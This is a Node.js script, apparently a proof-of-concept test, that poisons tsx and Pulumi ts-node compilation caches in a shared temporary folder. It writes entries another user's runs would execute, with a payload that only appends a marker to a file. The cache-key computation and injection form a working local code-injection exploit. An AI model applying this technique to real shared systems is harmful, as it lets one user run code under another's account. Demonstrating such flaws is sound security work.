// What another user of the machine can do to the caches of compiled TypeScript in a temporary folder that all share: fill
// them, under the names that tsx and Pulumi's own runner will look for, with code that leaves a mark. Arguments: the mark, the
// checkout, and the user id and home folder of the victim.
"use strict";

const { execFileSync } = require("node:child_process");
const { createHash } = require("node:crypto");
const fs = require("node:fs");
const { tmpdir } = require("node:os");
const { dirname, extname, join } = require("node:path");

const [mark, checkout, victim, home] = process.argv.slice(2);
const poison = `require("node:fs").appendFileSync(${JSON.stringify(mark)}, __filename + "\\n");`;
const pulumi = dirname(require.resolve("@pulumi/pulumi/package.json"));

/** The sources that the program, the policies and the provider are made of. */
function sources() {
    const folders = ["config", "components", "openmetadata", "policies", "plugins"];
    const files = folders.flatMap((folder) =>
        fs.readdirSync(join(checkout, folder), { recursive: true, encoding: "utf8" }).map((name) => join(folder, name)),
    );
    return ["index.ts", ...files]
        .filter((name) => name.endsWith(".ts"))
        .map((name) => fs.readFileSync(join(checkout, name), "utf8"));
}

/** Fills the cache of the TypeScript runner that comes with Pulumi, for a folder that it runs a program in. */
function poisonPulumi(folder, options, tsconfig = "tsconfig.json") {
    process.chdir(folder);
    process.env.HOME = home;
    const { loadTypeScriptCompilerOptions, typeScriptRequireStrings } = require(join(pulumi, "tsutils"));
    const { tsnodeRequire, typescriptRequire } = typeScriptRequireStrings();
    const { cachedir } = require(tsnodeRequire).register({
        compiler: typescriptRequire,
        skipProject: !fs.existsSync(tsconfig),
        ...options,
        compilerOptions: {
            target: "ES2020",
            module: "nodenext",
            moduleResolution: "nodenext",
            sourceMap: "true",
            ...loadTypeScriptCompilerOptions(tsconfig),
        },
    });
    for (const source of sources()) {
        const name = createHash("sha256").update(extname("x.ts")).update("\0").update(source).digest("hex");
        fs.writeFileSync(join(cachedir, `${name}.js`), `${poison}\n// e30=`);
    }
    fs.chmodSync(dirname(cachedir), 0o755);
}

/** Fills the cache of tsx: what it compiled for this user, with a line more, as the victim's. */
function poisonTsx() {
    // It writes while the program runs on, and the command would end before.
    const program =
        'process.exit = () => undefined; process.argv.push("--version"); require("./cli/commands/main.ts");';
    execFileSync(
        process.execPath,
        ["--import", join(checkout, "tests", "node_modules", "tsx", "dist", "loader.mjs"), "--eval", program],
        {
            cwd: checkout,
            stdio: "ignore",
        },
    );
    const own = join(tmpdir(), `tsx-${process.geteuid()}`);
    const theirs = join(tmpdir(), `tsx-${victim}`);
    fs.mkdirSync(theirs, { mode: 0o755 });
    for (const name of fs.readdirSync(own).filter((name) => /^\d+-/.test(name))) {
        const entry = JSON.parse(fs.readFileSync(join(own, name), "utf8"));
        fs.writeFileSync(join(theirs, name), JSON.stringify({ ...entry, code: `${entry.code}\n${poison}` }));
    }
}

process.umask(0o022);
poisonTsx();
poisonPulumi(checkout, { project: "tsconfig.json", transpileOnly: undefined });
poisonPulumi(join(checkout, "policies"), { typeCheck: true });
poisonPulumi(checkout, { typeCheck: true });
